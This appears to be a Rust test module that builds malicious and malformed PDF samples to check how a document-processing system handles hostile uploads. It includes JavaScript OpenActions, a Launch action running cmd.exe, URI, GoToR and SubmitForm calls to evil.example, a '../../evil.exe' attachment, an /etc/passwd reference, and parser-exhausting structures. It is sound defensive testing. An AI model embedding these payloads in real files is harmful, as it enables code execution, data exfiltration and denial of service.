use super::hand::Hand;
use super::{EVIL, Fate, Hostile, Refused, file, harmless, refused};
use crate::receipts::samples::bombs::zlib;
use crate::receipts::samples::place::{PLACE, PLANTED, xmp};
use crate::receipts::samples::{document, locked_pdf, pdf, photograph, protected_pdf};

/// Documents that do things, hold things, or cannot be shown.
pub(super) fn files() -> Vec<Hostile> {
    [doing(), holding(), damaged()].concat()
}

/// They would do something to whoever opens them.
fn doing() -> Vec<Hostile> {
    let catalog = |name: &str, says: &str| harmless(name, Hand::page().catalog(says).pdf());
    let link = |name: &str, action: &str| {
        let each = format!(
            "/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<<{action}>>>>]"
        );
        harmless(name, Hand::page().each(&each).pdf())
    };
    vec![
        catalog(
            "PDF that runs a script when it is opened",
            "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
        ),
        catalog(
            "PDF with a script among its names",
            "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\(1\\))>>]>>>>",
        ),
        catalog(
            "PDF that runs a script when it is closed",
            "/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
        ),
        catalog(
            "PDF that starts a program",
            "/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        ),
        catalog(
            "PDF that asks another site",
            "/OpenAction<</S/URI/URI(https://evil.example/51.507222N,0.127500W)>>",
        ),
        catalog("PDF that opens a file", "/OpenAction<</S/GoToR/F(//evil.example/share/a.pdf)/D[0/Fit]>>"),
        catalog(
            "PDF with a form that sends itself",
            "/AcroForm<</Fields[]/XFA(<xdp><script>alert(1)</script></xdp>)>>",
        ),
        link("PDF with a link that runs a script", "/S/JavaScript/JS(app.alert\\(1\\))"),
        link("PDF with a link that starts a program", "/S/Launch/F(cmd.exe)"),
        link("PDF with a link that sends a form", "/S/SubmitForm/F(https://evil.example/)"),
    ]
}

/// They carry something that must not be kept.
fn holding() -> Vec<Hostile> {
    let info = format!("/Info<</Title({PLACE})/Author({PLANTED})/Keywords({EVIL:?})>>");
    let wide: Vec<String> = PLACE.encode_utf16().map(|unit| format!("{unit:04X}")).collect();
    let wide = wide.concat();
    let photo = photograph(320, 240, 1);
    let image = "/Type/XObject/Subtype/Image/Width 320/Height 240/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode";
    let attached = "/Names<</EmbeddedFiles<</Names[(../../evil.exe)<</Type/Filespec/F(../../evil.exe)/EF<</F 10 0 R>>>>]>>>>";
    let drawn = Hand::page().resources("/XObject<</I 10 0 R>>").draws("q 595 0 0 842 0 0 cm /I Do Q");
    vec![
        harmless("PDF with a place in its facts", Hand::page().trailer(&info).pdf()),
        harmless(
            "PDF with a place in its facts, in 16 bits",
            Hand::page().trailer(&format!("/Info<</Title<FEFF{wide}>>>")).pdf(),
        ),
        harmless(
            "PDF with an XMP packet",
            Hand::page().catalog("/Metadata 10 0 R").stream(10, "/Type/Metadata/Subtype/XML", &xmp()).pdf(),
        ),
        harmless(
            "PDF with a packed XMP packet",
            Hand::page()
                .catalog("/Metadata 10 0 R")
                .stream(10, "/Type/Metadata/Subtype/XML/Filter/FlateDecode", &zlib(&xmp()))
                .pdf(),
        ),
        harmless("PDF with a photograph that knows its place", drawn.stream(10, image, &photo).pdf()),
        harmless(
            "PDF with a program attached",
            Hand::page().catalog(attached).stream(10, "/Type/EmbeddedFile", EVIL).pdf(),
        ),
        harmless(
            "PDF with a place in a comment",
            [pdf(1), format!("% {PLACE} {PLANTED}\n").into_bytes()].concat(),
        ),
        harmless("PDF with a place where nobody looks", Hand::page().object(10, format!("({PLACE})")).pdf()),
        harmless(
            "PDF that reads a file of ours",
            Hand::page()
                .resources("/XObject<</I 10 0 R>>")
                .draws("/I Do")
                .object(
                    10,
                    "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(/etc/passwd)/Length 0>>stream\n\nendstream",
                )
                .pdf(),
        ),
    ]
}

/// They cannot be shown, or only with patience.
fn damaged() -> Vec<Hostile> {
    let sized = |name: &str, media: &str| {
        file(name, Hand::page().each(&format!("/MediaBox[{media}]")).pdf(), Fate::Either)
    };
    let turned = "/MediaBox[0 0 595 842]/Rotate 45/UserUnit 1000000";
    vec![
        refused("PDF behind a password", protected_pdf(), Refused::Protected),
        refused("PDF behind a password of 2017", locked_pdf("/V 5/R 6/Length 256", 48), Refused::Protected),
        refused("PDF behind a lock that nobody knows", locked_pdf("/V 9/R 9", 32), Refused::Protected),
        file("PDF with a lock and no table", Hand::page().trailer("/Encrypt<</Filter/Standard/V 1/R 2/P -4>>").pdf(), Fate::Either),
        refused("PDF without pages", pdf(0), Refused::Broken),
        refused("PDF that is only a beginning", b"%PDF-1.7\n%%EOF", Refused::Broken),
        refused("PDF of 21 pages", pdf(21), Refused::TooManyPages),
        refused("PDF of 500 pages", pdf(500), Refused::TooManyPages),
        file("PDF that says it has 2³¹ pages", b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 2147483647>>endobj\ntrailer<</Root 1 0 R>>".as_slice(), Fate::Either),
        file("PDF whose pages are their own chapter", b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>".as_slice(), Fate::Either),
        file("PDF whose table points at itself", [pdf(1), b"xref\n0 1\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF".to_vec()].concat(), Fate::Either),
        sized("PDF of nothing", "0 0 0 0"),
        sized("PDF of 10³⁸ points", "0 0 1e38 1e38"),
        sized("PDF turned inside out", "595 842 0 0"),
        sized("PDF a kilometre long", "0 0 100 2834645"),
        sized("PDF of no numbers", "/a (b) null true"),
        file("PDF turned by 45 degrees", Hand::page().each(turned).pdf(), Fate::Either),
        harmless("PDF of 200,000 saved states", document(1, |_| b"q ".repeat(200_000))),
        harmless("PDF of a million brackets", document(1, |_| b"[".repeat(1_000_000))),
        harmless("PDF of a million nested dictionaries", document(1, |_| b"<</A ".repeat(1_000_000))),
        harmless("PDF of numbers that overflow", document(1, |_| b"1e308 -1e308 99999999999999999999 9e9 re f ".repeat(1000))),
    ]
}
